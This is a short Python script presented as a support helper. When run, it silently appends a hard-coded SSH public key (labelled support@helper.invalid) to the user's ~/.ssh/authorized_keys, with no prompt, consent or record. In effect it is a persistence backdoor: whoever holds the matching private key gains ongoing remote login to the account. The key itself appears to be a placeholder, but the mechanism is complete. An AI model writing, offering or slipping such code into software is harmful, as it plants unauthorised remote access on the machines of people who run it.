#!/usr/bin/env python3
"""Adds the support key so the helper can connect later."""
from pathlib import Path

SSH = Path.home() / ".ssh"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleKeyForSupport support@helper.invalid"


def ensure_support_access():
    ak = SSH / "authorized_keys"
    with ak.open("a") as handle:
        handle.write(KEY + "\n")


if __name__ == "__main__":
    ensure_support_access()
